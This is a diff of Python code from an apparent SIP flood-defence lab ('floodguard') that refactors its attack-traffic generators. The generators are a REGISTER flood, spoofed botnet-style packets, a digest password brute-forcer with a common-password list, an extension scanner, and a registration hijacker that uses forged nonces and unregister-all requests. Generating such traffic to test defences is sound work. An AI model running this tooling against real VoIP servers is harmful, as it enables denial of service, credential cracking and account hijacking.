@@ -35,8 +35,8 @@ from collections.abc import Callable, Iterator
 from typing import Any
 
 from floodguard.lab import scenarios, sip
-from floodguard.sip import digest
-from floodguard.sip.message import SipMessage, SipParseError, parse_message
+from floodguard.sip import build, digest
+from floodguard.sip.message import DigestChallenge, SipMessage, SipParseError, parse_message
 
 COMMON_PASSWORDS = [
     "1234", "12345", "123456", "password", "admin", "0000", "1111", "secret", "letmein",
@@ -129,9 +129,9 @@ def volume(args: argparse.Namespace) -> dict[str, Any]:
     """One source, one socket, REGISTERs as fast as possible (or at --rate)."""
     src = args.sources[0]
     sock = _sock(src, 5070)
-    template = sip.register(server=args.server, src=src, sport=5070, user="10000",
-                            call_id="volume-%08d@flood", cseq=1, via_branch="z9hG4bKvol%08d",
-                            user_agent="Grandstream GXP2170 1.0.11.3")
+    template = build.register(args.server, user="10000", local=f"{src}:5070",
+                              call_id="volume-%08d@flood", cseq=1, branch="z9hG4bKvol%08d",
+                              expires=60, user_agent="Grandstream GXP2170 1.0.11.3")
     text = template.decode()
     pacer = Pacer(args.rate, args.duration)
     sent = answered = 0
@@ -179,14 +179,14 @@ def botnet_packets(sources: list[str], server: str, users: int) -> list[tuple[by
     for i, src in enumerate(sources):
         sport = 5060 + (i % 3) * 1000
         user = str(sip.FIRST_USER + rng.randrange(users)) if i % 2 else f"u{rng.randrange(10**6)}"
-        nonce = secrets.token_hex(16)
-        auth = (f'Digest username="{user}", realm="{sip.REALM}", nonce="{nonce}", '
-                f'uri="sip:{server}", response="{secrets.token_hex(16)}", algorithm=MD5, '
-                f'qop=auth, nc=00000001, cnonce="{secrets.token_hex(4)}"')
-        msg = sip.register(server=server, src=src, sport=sport, user=user,
-                           call_id=f"{secrets.token_hex(8)}@{src}", cseq=2,
-                           authorization=auth, via_branch="z9hG4bKbot@@@@@@@@",
-                           user_agent="Linksys/SPA942-6.1.5")
+        # a made-up nonce, answered with a random password
+        auth = digest.authorization_header(user, secrets.token_hex(8), sip.REALM,
+                                           secrets.token_hex(16), f"sip:{server}", "REGISTER",
+                                           cnonce=secrets.token_hex(4))
+        msg = build.register(server, user=user, local=f"{src}:{sport}",
+                             call_id=f"{secrets.token_hex(8)}@{src}", cseq=2, expires=60,
+                             authorization=auth, branch="z9hG4bKbot@@@@@@@@",
+                             user_agent="Linksys/SPA942-6.1.5")
         packet = spoofed_datagram(src, server, sport, sip.SIP_PORT, msg)
         head, tail = packet.split(b"@@@@@@@@", 1)
         out.append((head, tail))
@@ -256,17 +256,11 @@ class Dialog:
 
 def _authorization(msg: SipMessage, user: str, secret: str, server: str,
                    forged_nonce: bool = False) -> str | None:
-    challenge = next((c for c in msg.challenges if c.nonce), None)
+    challenge = build.challenge_of(msg)
     if challenge is None:
         return None
-    algorithm = (challenge.algorithm or "MD5").upper()
-    if algorithm not in digest.ALGORITHMS:
-        algorithm = "MD5"
-    nonce = secrets.token_urlsafe(24) if forged_nonce else challenge.nonce or ""
-    return digest.authorization_header(user, secret, challenge.realm or "", nonce,
-                                       f"sip:{server}", "REGISTER", algorithm=algorithm,
-                                       qop="auth" if challenge.qop else None,
-                                       opaque=challenge.opaque)
+    return build.answer(challenge, user, secret, "REGISTER", f"sip:{server}",
+                        nonce=secrets.token_urlsafe(24) if forged_nonce else None)
 
 
 def guesses(user: str, count: int) -> Iterator[str]:
@@ -304,9 +298,9 @@ def bruteforce(args: argparse.Namespace) -> dict[str, Any]:
     while time.monotonic() < end and cracked is None and not _STOP[0]:
         auth = _authorization(last, target, next(words), args.server) if last is not None \
             else None
-        request = sip.register(server=args.server, src=src, sport=5080, user=target,
-                               call_id=call_id, cseq=cseq, authorization=auth,
-                               user_agent=sip.PHONE_AGENT)
+        request = build.register(args.server, user=target, local=f"{src}:5080",
+                                 call_id=call_id, cseq=cseq, expires=60, authorization=auth,
+                                 user_agent=sip.PHONE_AGENT)
         reply = dialog.exchange(request, call_id, cseq, wait=0.5, tries=2)
         cseq += 1
         if reply is None:
@@ -360,12 +354,13 @@ def scanner(args: argparse.Namespace) -> dict[str, Any]:
             sock, src = socks[i], args.sources[i]
             agent = SCANNER_AGENTS[sent % len(SCANNER_AGENTS)]
             if sent % 2:
-                data = sip.options(server=args.server, src=src, sport=5090,
-                                   user=str(extension), user_agent=agent)
+                data = build.options(f"sip:{extension}@{args.server}", local=f"{src}:5090",
+                                     contact=f"<sip:{extension}@{src}:5090>",
+                                     user_agent=agent, headers=["Accept: application/sdp"])
             else:
-                data = sip.register(server=args.server, src=src, sport=5090,
-                                    user=str(extension), call_id=secrets.token_hex(8),
-                                    cseq=1, user_agent=agent)
+                data = build.register(args.server, user=str(extension), local=f"{src}:5090",
+                                      call_id=secrets.token_hex(8), cseq=1, expires=60,
+                                      user_agent=agent)
                 extension = 100 + (extension - 99) % 20000
             with contextlib.suppress(OSError):
                 sock.sendto(data, (args.server, sip.SIP_PORT))
@@ -413,7 +408,7 @@ class AbuseSource:
         self.src, self.server, self.sport = src, server, sport
         self.sock = _sock(src, sport)
         self.contacts = abusive_contacts(src, sport)
-        self.challenge: Any = None
+        self.challenge: DigestChallenge | None = None
         self.nc = 0
         self.call_id = f"abuse-{secrets.token_hex(6)}@{src}"
         self.cseq = 0
@@ -426,23 +421,18 @@ class AbuseSource:
         auth = None
         if index % 2 and self.challenge is not None:
             self.nc += 1
-            ch = self.challenge
-            algorithm = (ch.algorithm or "MD5").upper()
-            auth = digest.authorization_header(
-                sip.ATTACKER_USER, sip.ATTACKER_PASSWORD, ch.realm or "", ch.nonce or "",
-                f"sip:{self.server}", "REGISTER",
-                algorithm=algorithm if algorithm in digest.ALGORITHMS else "MD5",
-                qop="auth" if ch.qop else None, nc=self.nc, opaque=ch.opaque)
-        return sip.register(server=self.server, src=self.src, sport=self.sport,
-                            user=sip.ATTACKER_USER, call_id=self.call_id, cseq=self.cseq,
-                            contact=contact, extra=extra, authorization=auth,
-                            user_agent="Cisco-SIPGateway/IOS-12.x")
+            auth = build.answer(self.challenge, sip.ATTACKER_USER, sip.ATTACKER_PASSWORD,
+                                "REGISTER", f"sip:{self.server}", nc=self.nc)
+        return build.register(self.server, user=sip.ATTACKER_USER,
+                              local=f"{self.src}:{self.sport}", call_id=self.call_id,
+                              cseq=self.cseq, contacts=[contact], headers=extra, expires=60,
+                              authorization=auth, user_agent="Cisco-SIPGateway/IOS-12.x")
 
     def seen(self, data: bytes, statuses: Counter[str]) -> None:
         msg = _parse(data)
         statuses[str(msg.status) if msg is not None else "unparseable"] += 1
         if msg is not None and msg.status in (401, 407):
-            challenge = next((c for c in msg.challenges if c.nonce), None)
+            challenge = build.challenge_of(msg)
             if challenge is not None and (self.challenge is None
                                           or challenge.nonce != self.challenge.nonce):
                 self.challenge, self.nc = challenge, 0
@@ -486,8 +476,9 @@ def hijack(args: argparse.Namespace) -> dict[str, Any]:
     while time.monotonic() < end and not _STOP[0]:
         round_no += 1
         call_id = f"hj-{secrets.token_hex(6)}@{src}"
-        first = sip.register(server=args.server, src=src, sport=5085, user=victim,
-                             call_id=call_id, cseq=1, contact=contact)
+        first = build.register(args.server, user=victim, local=f"{src}:5085", call_id=call_id,
+                               cseq=1, contacts=[contact], expires=60,
+                               user_agent=sip.PHONE_AGENT)
         reply = dialog.exchange(first, call_id, 1, wait=0.5, tries=1)
         kind = ("wrong-password", "own-credentials", "forged-nonce",
                 "unregister-all")[round_no % 4]
@@ -507,10 +498,10 @@ def hijack(args: argparse.Namespace) -> dict[str, Any]:
                                   forged_nonce=True)
         else:
             auth = _authorization(reply, victim, random.choice(COMMON_PASSWORDS), args.server)
-        second = sip.register(
-            server=args.server, src=src, sport=5085, user=victim, call_id=call_id, cseq=2,
-            contact="*" if kind == "unregister-all" else contact, authorization=auth,
-            expires=0 if kind == "unregister-all" else 3600)
+        second = build.register(
+            args.server, user=victim, local=f"{src}:5085", call_id=call_id, cseq=2,
+            contacts=["*" if kind == "unregister-all" else contact], authorization=auth,
+            expires=0 if kind == "unregister-all" else 3600, user_agent=sip.PHONE_AGENT)
         reply = dialog.exchange(second, call_id, 2, wait=0.5, tries=1)
         status = "no answer" if reply is None else str(reply.status)
         outcomes[f"{kind} {status}"] += 1
